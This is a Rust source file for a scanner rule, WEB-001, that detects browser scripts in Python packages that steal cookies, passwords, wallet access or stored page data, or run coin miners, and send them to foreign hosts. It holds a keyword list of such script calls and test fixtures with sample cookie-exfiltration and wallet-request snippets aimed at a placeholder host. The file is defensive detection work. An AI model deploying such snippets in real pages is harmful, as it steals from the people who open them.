//! `WEB-001`: a script for browsers takes what is a user's and gives it away.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::evidence::{observe_place, shipped};
use super::sent::{host_of, is_foreign};
use super::{Rule, even_if_asked};
use crate::python::Analysis;

/// The rule.
pub(super) struct PageScript;

impl Rule for PageScript {
    fn id(&self) -> &'static str {
        "WEB-001"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "a script for pages takes from whoever looks at them"
    }

    fn manual(&self) -> &'static str {
        "A text of the package is a script for browsers that reads cookies, passwords or wallets, \
         or computes for a pool, and that names a host of somebody else.\n\n\
         Put into pages, notebooks or the files of other packages, it takes from everybody who \
         opens them, without a line of Python that does.\n\n\
         Mistaken for it: front ends of one's own services that read their own cookies."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for module in shipped(analysis) {
            for literal in &module.literals {
                let Some(what) = taken(&literal.text).filter(|_| names_host(&literal.text)) else {
                    continue;
                };
                let severity = even_if_asked(Severity::High, literal.context);
                let confidence = Confidence::of(70).in_context(literal.context);
                let message = format!("a script for pages takes {what}");
                observations.push(observe_place(
                    self,
                    (&literal.place, literal.context, &literal.text),
                    (severity, confidence),
                    message,
                ));
            }
        }
    }
}

/// Words of scripts, with what they take.
const TAKES: &[(&str, &str)] = &[
    ("document.cookie", "cookies"),
    ("type=password", "passwords"),
    ("type=\"password\"]", "passwords"),
    ("window.ethereum", "wallets"),
    ("window.solana", "wallets"),
    ("eth_requestAccounts", "wallets"),
    ("JSON.stringify(localStorage", "what pages store"),
    ("new Miner(", "the processor"),
    ("CoinHive", "the processor"),
];

fn taken(text: &str) -> Option<&'static str> {
    let found = TAKES.iter().find(|(word, _)| text.contains(word));
    found.map(|(_, what)| *what)
}

/// Whether the script says where it takes it to, or where the rest of it comes from.
fn names_host(text: &str) -> bool {
    let ends = |each: char| each.is_whitespace() || matches!(each, '\'' | '"' | '`' | '<' | ')');
    let mut addresses = text.match_indices("://").filter_map(|(at, _)| {
        let start = text[..at].rfind(|each: char| !each.is_ascii_alphanumeric());
        let rest = &text[start.map_or(0, |start| start + 1)..];
        host_of(rest.split(ends).next().unwrap_or(rest))
    });
    addresses.any(|host| is_foreign(host) && !host.ends_with("w3.org"))
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn scripts_that_take_are_seen() {
        for code in [
            "A = \"<script>fetch('https://c.invalid/c', {body: document.cookie})</script>\"",
            "def page():\n    return \"s.src='https://c.invalid/x.js';window.ethereum.request({})\"",
        ] {
            found("WEB-001", "demo/__init__.py", code);
        }
    }

    #[test]
    fn other_scripts_are_not() {
        for code in [
            "A = \"<script>fetch('/api', {headers: {x: document.cookie}})</script>\"",
            "A = \"<script src='https://cdn.invalid/plot.js'></script>\"",
        ] {
            quiet("WEB-001", "demo/__init__.py", code);
        }
    }
}
